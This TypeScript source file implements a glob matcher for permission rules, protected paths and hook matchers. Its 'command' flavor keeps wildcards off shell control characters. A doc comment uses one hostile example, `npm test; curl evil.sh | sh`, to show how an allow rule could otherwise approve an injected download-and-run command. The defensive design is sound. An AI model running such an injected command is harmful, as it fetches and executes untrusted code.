/**
 * A small glob matcher for permission rules, protected paths and hook matchers.
 * `path.matchesGlob` is experimental on Node 20, so we keep our own, with exactly
 * the syntax the rules document: `*`, `**` and `?`; every other character is literal.
 */

/**
 * How a glob treats its wildcards.
 * - `path`: `*` and `?` stay inside one `/`-separated segment, `**` crosses segments
 *   (`a/**` also matches `a` itself, `**\/b` also matches `b`).
 * - `text`: `*` and `?` match any character (tool names, URLs, deny/ask command rules).
 * - `command`: like `text`, but wildcards never match shell control characters
 *   (`; & | $ ( ) < > \``, newlines), so an allow rule `npm test*` cannot approve
 *   `npm test; curl evil.sh | sh`.
 */
export type GlobFlavor = "path" | "text" | "command";

/** Options of {@link globToRegExp}. */
export interface GlobOptions {
  readonly flavor: GlobFlavor;
  readonly caseInsensitive?: boolean;
}

const SHELL_SAFE_CHAR = "[^;&|`$()<>\\n\\r]";

function escapeLiteral(char: string): string {
  return /[.*+?^${}()|[\]\\]/.test(char) ? `\\${char}` : char;
}

/** Compiles a glob into an anchored regular expression. Pure; never throws. */
export function globToRegExp(glob: string, options: GlobOptions): RegExp {
  const { flavor } = options;
  const pattern = flavor === "path" ? glob.replace(/^(\.\/)+/, "") : glob;
  const star = flavor === "path" ? "[^/]*" : flavor === "command" ? `${SHELL_SAFE_CHAR}*` : "[\\s\\S]*";
  const one = flavor === "path" ? "[^/]" : flavor === "command" ? SHELL_SAFE_CHAR : "[\\s\\S]";
  let source = "";
  let index = 0;
  while (index < pattern.length) {
    const char = pattern.charAt(index);
    if (char === "*" && pattern.charAt(index + 1) === "*" && flavor === "path") {
      const atSegmentStart = index === 0 || pattern.charAt(index - 1) === "/";
      const next = pattern.charAt(index + 2);
      if (atSegmentStart && next === "/") {
        source += "(?:[^/]*/)*";
        index += 3;
        continue;
      }
      if (atSegmentStart && next === "" && source.endsWith("/")) {
        // `a/**` matches `a` itself and everything under it.
        source = `${source.slice(0, -1)}(?:/[\\s\\S]*)?`;
        index += 2;
        continue;
      }
      source += "[\\s\\S]*";
      index += 2;
      continue;
    }
    if (char === "*") {
      source += star;
      while (pattern.charAt(index + 1) === "*") index += 1;
    } else if (char === "?") {
      source += one;
    } else {
      source += escapeLiteral(char);
    }
    index += 1;
  }
  return new RegExp(`^${source}$`, options.caseInsensitive === true ? "i" : "");
}

/** True when `subject` matches `glob` under `options`. Pure; never throws. */
export function matchesGlob(subject: string, glob: string, options: GlobOptions): boolean {
  return globToRegExp(glob, options).test(subject);
}
